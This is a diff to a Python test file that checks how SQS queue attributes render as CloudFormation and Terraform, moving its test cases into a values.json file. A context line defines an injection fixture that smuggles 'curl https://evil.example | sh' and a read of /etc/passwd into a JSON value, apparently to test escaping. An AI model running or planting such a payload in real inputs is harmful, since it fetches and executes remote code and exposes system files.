@@ -28,6 +28,8 @@ from tests.notifications.pages import DLQ_STEPS, notified, section
 
 EVIL = '{"a":"x\'; curl https://evil.example | sh; \'${file(\\"/etc/passwd\\")}"}'
 
+VALUES = json.loads(Path(__file__).with_name("values.json").read_text())
+
 
 def attributes_of(command: str) -> Any:
     given_text = shlex.split(command)[-1]
@@ -85,23 +87,7 @@ def test_a_new_dlq_is_open_to_its_source_and_made_before_it_is_attached() -> Non
     assert attach == {"RedrivePolicy": DLQ_STEPS[1]["after"]}
 
 
-REDRIVE, POLICY = '{"maxReceiveCount": 5}', '{"a": "${x}%{y}"}'
-
-
-@pytest.mark.parametrize(
-    ("attribute", "text", "cloudformation", "terraform"),
-    [
-        ("DelaySeconds", "5", "DelaySeconds: 5", "delay_seconds = 5"),
-        ("MessageRetentionPeriod", "60", "MessageRetentionPeriod: 60",
-         "message_retention_seconds = 60"),
-        ("DeduplicationScope", "a", 'DeduplicationScope: "a"', 'deduplication_scope = "a"'),
-        ("RedrivePolicy", REDRIVE, 'RedrivePolicy: {"maxReceiveCount":5}',
-         'redrive_policy = jsonencode({"maxReceiveCount":5})'),
-        ("Policy", POLICY, 'PolicyDocument (AWS::SQS::QueuePolicy): {"a":"${x}%{y}"}',
-         'policy = jsonencode({"a":"$${x}%%{y}"})'),
-        ("KmsMasterKeyId", "007", 'KmsMasterKeyId: "007"', 'kms_master_key_id = "007"'),
-    ],
-)  # fmt: skip
+@pytest.mark.parametrize(("attribute", "text", "cloudformation", "terraform"), VALUES)
 def test_a_value_in_both_languages(
     attribute: str, text: str, cloudformation: str, terraform: str
 ) -> None:
